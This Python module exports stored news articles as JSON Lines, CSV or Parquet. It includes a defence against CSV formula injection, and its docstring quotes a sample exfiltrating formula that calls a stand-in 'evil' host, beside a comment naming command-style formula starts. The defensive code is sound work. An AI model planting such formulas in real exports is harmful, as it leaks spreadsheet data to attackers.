"""Export stored articles as JSON Lines, CSV or Parquet, streaming.

Records are the article record of DESIGN.md (the same as ``show --json``).
Rows are read from state in batches and written as they come, so memory stays
flat however many articles there are. With a query, the search backend picks
the ids (the same ids ``search`` finds) and state supplies the records.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterable, Iterator
from datetime import datetime
from itertools import islice
from typing import IO, Any, Literal

from pipeline.config import Settings
from pipeline.errors import NewswatchError
from pipeline.search.base import SearchRequest, open_backend
from pipeline.store import Store
from pipeline.store.db import article_from_row

Format = Literal["jsonl", "csv", "parquet"]
FIELDS = (
    "id", "url", "canonical_url", "source", "lang", "title", "authors", "published",
    "date_source", "fetched_at", "text", "summary", "extraction_method", "content_hash",
    "story_id", "events", "entities",
)  # fmt: skip
BATCH = 500


class ExtraMissing(NewswatchError):
    """An optional dependency is not installed."""


def iter_records(
    settings: Settings,
    store: Store,
    *,
    query: str = "",
    since: datetime | None = None,
    until: datetime | None = None,
    sources: Iterable[str] = (),
    langs: Iterable[str] = (),
    events: Iterable[str] = (),
    places: Iterable[str] = (),
) -> Iterator[dict[str, Any]]:
    """Every stored article matching the query and filters, as article records.

    Without a query or enriched-field filters, state alone answers (no search
    backend needed); otherwise the backend picks the ids.
    """
    sources, langs, events, places = list(sources), list(langs), list(events), list(places)
    if not query.strip() and not events and not places:
        rows = store.iter_filtered_rows(since=since, until=until, sources=sources, langs=langs)
        for row in rows:
            yield article_from_row(row).record()
        return
    backend = open_backend(settings)
    try:
        ids = backend.iter_ids(
            SearchRequest(
                query=query,
                since=since,
                until=until,
                sources=sources,
                langs=langs,
                events=events,
                places=places,
            )
        )
        while chunk := list(islice(ids, BATCH)):
            for row in store.iter_article_rows(chunk):
                yield article_from_row(row).record()
    finally:
        backend.close()


# A cell starting with one of these is a formula to Excel, LibreOffice and Google
# Sheets (=HYPERLINK(...), +cmd|..., @SUM(...)); tab and carriage return too.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """The OWASP rule against CSV formula injection: a cell that would start a
    formula gets a leading apostrophe, so a spreadsheet shows it as text.

    Titles and texts come from strangers' pages; a title like
    ``=HYPERLINK("http://evil/?"&A1, "click")`` must not run when an analyst
    opens the export. Only CSV is changed: JSONL and Parquet stay exact.
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _cell(value: Any) -> Any:
    if isinstance(value, list | dict):
        return neutralise(json.dumps(value, ensure_ascii=False))
    if value is None:
        return ""
    return neutralise(value) if isinstance(value, str) else value


def write_jsonl(records: Iterable[dict[str, Any]], out: IO[str], tick: Callable[[], None]) -> int:
    n = 0
    for rec in records:
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")
        n += 1
        tick()
    return n


def write_csv(records: Iterable[dict[str, Any]], out: IO[str], tick: Callable[[], None]) -> int:
    """CSV with lists and objects as JSON text in their cells (spreadsheets read it).

    A cell that would start a formula is neutralised (:func:`neutralise`, the
    OWASP rule); cells holding a quote, a comma or a line break are quoted,
    with quotes doubled, so no cell can spill into the next.
    """
    writer = csv.DictWriter(out, fieldnames=FIELDS, extrasaction="ignore")
    writer.writeheader()
    n = 0
    for rec in records:
        writer.writerow({k: _cell(rec.get(k)) for k in FIELDS})
        n += 1
        tick()
    return n


def parquet_schema() -> Any:
    import pyarrow as pa

    event = pa.struct(
        [
            ("type", pa.string()),
            ("confidence", pa.float64()),
            ("evidence", pa.string()),
            ("actors", pa.list_(pa.string())),
            ("places", pa.list_(pa.string())),
            ("position", pa.string()),  # headline | lead | body | background
            ("reported", pa.bool_()),  # False: an event the article only recalls
        ]
    )
    entity = pa.struct(
        [
            ("id", pa.string()),
            ("name", pa.string()),
            ("type", pa.string()),
            ("lat", pa.float64()),
            ("lon", pa.float64()),
            ("country", pa.string()),  # places: ISO 3166 alpha-2
        ]
    )
    strings = [f for f in FIELDS if f not in ("authors", "events", "entities")]
    fields = [(f, pa.string()) for f in strings]
    fields += [
        ("authors", pa.list_(pa.string())),
        ("events", pa.list_(event)),
        ("entities", pa.list_(entity)),
    ]
    return pa.schema(sorted(fields, key=lambda f: FIELDS.index(f[0])))


def require_pyarrow() -> None:
    """Parquet needs pyarrow: say so before any file is created or record read."""
    try:
        import pyarrow  # noqa: F401
    except ImportError:
        raise ExtraMissing(
            "Parquet export needs pyarrow: install the parquet extra, "
            "e.g. `.venv/bin/pip install -e '.[parquet]'`"
        ) from None


def write_parquet(records: Iterable[dict[str, Any]], path: str, tick: Callable[[], None]) -> int:
    """Parquet with nested columns (events, entities as lists of structs), row groups of BATCH."""
    require_pyarrow()
    import pyarrow as pa
    import pyarrow.parquet as pq

    schema = parquet_schema()
    n = 0
    with pq.ParquetWriter(path, schema, compression="zstd") as writer:
        it = iter(records)
        while batch := list(islice(it, BATCH * 4)):
            for rec in batch:
                for ent in rec["entities"]:
                    ent.setdefault("lat", None)
                    ent.setdefault("lon", None)
            writer.write_table(pa.Table.from_pylist(batch, schema=schema))
            n += len(batch)
            for _ in batch:
                tick()
    return n


def _check_writable(path: str) -> None:
    """Refuse an output path that cannot be written, before any record is read."""
    try:
        with open(path, "a", encoding="utf-8"):
            pass
    except OSError as exc:
        raise NewswatchError(f"cannot write the export to {path}: {exc.strerror or exc}") from None


def export(
    records: Iterable[dict[str, Any]],
    fmt: Format,
    out: IO[str] | None,
    path: str | None,
    tick: Callable[[], None] = lambda: None,
) -> int:
    if fmt == "parquet":
        if not path:
            raise NewswatchError("Parquet is a binary file: give an output file with -o FILE")
        _check_writable(path)
        return write_parquet(records, path, tick)
    if path:
        _check_writable(path)
        with open(path, "w", encoding="utf-8", newline="") as fh:
            return (write_jsonl if fmt == "jsonl" else write_csv)(records, fh, tick)
    assert out is not None
    if fmt == "csv" and isinstance(out, io.TextIOWrapper):
        out.reconfigure(newline="")
    return (write_jsonl if fmt == "jsonl" else write_csv)(records, out, tick)
